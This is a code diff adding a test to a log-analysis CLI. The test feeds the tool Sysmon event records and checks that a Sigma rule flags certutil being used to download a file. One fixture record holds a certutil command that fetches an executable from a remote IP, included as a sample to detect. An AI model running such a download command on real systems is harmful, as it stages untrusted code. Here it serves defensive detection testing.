@@ -142,4 +142,32 @@ describe('seerflow import and analyze', () => {
     expect(result.stderr).toContain('session summary: 4 events, 3 alerts');
     expect(fs.existsSync(path.join(dir, 'seerflow.db'))).toBe(false);
   });
+
+  it('analyzes a Windows event export (evtx_dump JSON, pretty-printed, back to back) with the Sigma rules', async () => {
+    const dir = tempDir();
+    const record = (id: number, commandLine: string) => ({
+      Event: {
+        System: {
+          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
+          EventID: 1,
+          Channel: 'Microsoft-Windows-Sysmon/Operational',
+          Computer: 'ws1.corp.example',
+          EventRecordID: id,
+          TimeCreated: { '#attributes': { SystemTime: '2026-11-30T09:00:00.123456Z' } },
+        },
+        EventData: { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: commandLine, User: 'CORP\\bob' },
+      },
+    });
+    const file = path.join(dir, 'sysmon.json');
+    const benign = record(2, 'certutil -hashfile report.pdf SHA256');
+    fs.writeFileSync(file, `${JSON.stringify(record(1, 'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe'), null, 2)}\n${JSON.stringify(benign, null, 2)}\n`);
+    const result = await runCli(['analyze', file], { env: { SEERFLOW_DATA_DIR: dir } });
+    expect(result.code).toBe(0);
+    expect(result.stderr).toContain('session summary: 2 events');
+    const alerts = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
+    expect(alerts.map((a) => a.rule_name)).toContain('Certutil Used to Download a File');
+    const certutil = alerts.find((a) => a.rule_name === 'Certutil Used to Download a File')!;
+    expect(certutil).toMatchObject({ alert_type: 'sigma', timestamp_ns: '1796029200123456000' });
+    expect(certutil.mitre_techniques).toContain('T1105');
+  });
 });
